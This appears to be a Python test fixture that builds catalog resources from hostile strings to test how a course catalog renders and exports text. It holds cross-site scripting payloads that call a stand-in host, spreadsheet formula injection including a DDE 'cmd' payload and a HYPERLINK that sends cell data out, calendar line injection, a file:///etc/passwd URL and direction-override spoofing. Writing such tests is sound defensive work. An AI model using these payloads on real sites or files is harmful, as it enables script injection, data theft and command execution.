"""Hostile text, as it may come from many hands: markup, script addresses, tricks with direction, length, formats.

The catalog's models refuse much of it; these resources are made past them, so that what shows or exports a
resource is tested alone. Whatever runs sets `window.ran` or asks for an address at HOST.
"""

from __future__ import annotations

from groundschool.catalog.models import Resource
from small_course import resource

HOST = "hostile.example"

MARKUP = (
    f'<img src="https://{HOST}/image.png" onerror="window.ran=1">',
    f'<script>window.ran=1</script><script src="https://{HOST}/code.js"></script>',
    "</script><script>window.ran=1</script>",
    '"><svg onload="window.ran=1"><!--',
    "' autofocus onfocus=\"window.ran=1\" x='",
    f'</td></tr></table></details><iframe src="https://{HOST}/"></iframe>',
    f"<style>*{{background:url(https://{HOST}/style.png)}}</style>",
    f'<a href="javascript:window.ran=1">click</a> <form action="https://{HOST}/"><input name="q"></form>',
    "&lt;script&gt;window.ran=1&lt;/script&gt; &amp;amp;",
    "<![CDATA[<b>bold</b>]]> <?php echo 1; ?> {{ 7 * 7 }} {% raw %} ${7*7} $\\href{javascript:window.ran=1}{x}$",
)
MARKDOWN = (
    "[click](javascript:window.ran=1) ![image](https://" + HOST + "/markdown.png)",
    "| a | b |\n|---|---|\n# Heading\n- [ ] item\n\n```{raw} html\n<script>window.ran=1</script>\n```",
    "`code` <b>*star* _line_ ~~through~~ [@slug] [^1] \\ | <https://" + HOST + "/>",
)
DIRECTION = (
    "Harmless \N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
    "\N{RIGHT-TO-LEFT ISOLATE}\N{RIGHT-TO-LEFT EMBEDDING}never closed",
    "\N{POP DIRECTIONAL ISOLATE}\N{POP DIRECTIONAL FORMATTING}\N{RIGHT-TO-LEFT OVERRIDE}closed too often",
    "דוגמה: data 2013 (טבלה)",
)
INVISIBLE = (
    "da\N{ZERO WIDTH SPACE}ta \N{ZERO WIDTH NON-JOINER}\N{ZERO WIDTH JOINER}\N{WORD JOINER}\N{SOFT HYPHEN}check\N{BYTE ORDER MARK}",
    "null\x00byte \x1b[31mred\x1b[0m \x08\x7f\x85",
    "lone \ud83d surrogate \udc00",
    "line\r\nbreaks\u2028of\u2029all\x0b\x0ckinds\rhere",
    " \t\N{NO-BREAK SPACE} ",
)
LONG = (
    "W" * 10_000,
    "many words " * 900 + "end",
    "Zalgo: " + ("o" + "\N{COMBINING ACUTE ACCENT}\N{COMBINING TILDE}" * 40) * 20,
)
FACES = (
    "\N{GRINNING FACE}\N{ZERO WIDTH JOINER}\N{WOMAN}\N{EMOJI MODIFIER FITZPATRICK TYPE-5}\N{VARIATION SELECTOR-16} party",
    "\U0001f1e9\U0001f1ea \U0010ffff \N{REPLACEMENT CHARACTER}",
)
SHEET = (
    '=HYPERLINK("https://' + HOST + '/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    'a,"b";c\n=1+1',
)
CALENDAR = (
    "Read\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected\r\nATTACH:https://" + HOST + "/calendar",
    "Read\nBEGIN:VALARM\nACTION:AUDIO;x,y\\n:z",
)
URLS = (
    "javascript:window.ran=1",
    " JavaScript:window.ran=1",
    "java\tscript:window.ran=1",
    "\x01javascript:window.ran=1//http://",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f"//{HOST}/",
    f'https://{HOST}/"onmouseover="window.ran=1',
    f"https://{HOST}/<script>window.ran=1</script>?a=1&b=2 c\r\nd",
    f"https://user:word@{HOST}:443/\N{RIGHT-TO-LEFT OVERRIDE}gro.elpmaxe",
    "https://" + "long." * 2_000 + HOST,
    "",
)

HOSTILE: tuple[str, ...] = (
    *MARKUP,
    *MARKDOWN,
    *DIRECTION,
    *INVISIBLE,
    *LONG,
    *FACES,
    *SHEET,
    *CALENDAR,
    *URLS[:-1],
)


def hostile_resources() -> list[Resource]:
    """For each hostile text a resource of that title, author and summary, and for each address one with it.

    The ids are `hostile_0`, `hostile_1` and so on; those of the addresses are `address_0` and so on.
    """
    texts = [
        _past_the_model(f"hostile_{place}", title=text, summary=text, authors=(text,))
        for place, text in enumerate(HOSTILE)
    ]
    addresses = [_past_the_model(f"address_{place}", url=url) for place, url in enumerate(URLS)]
    return [*texts, *addresses]


def _past_the_model(name: str, **fields: object) -> Resource:
    return resource(name).model_copy(update=fields)
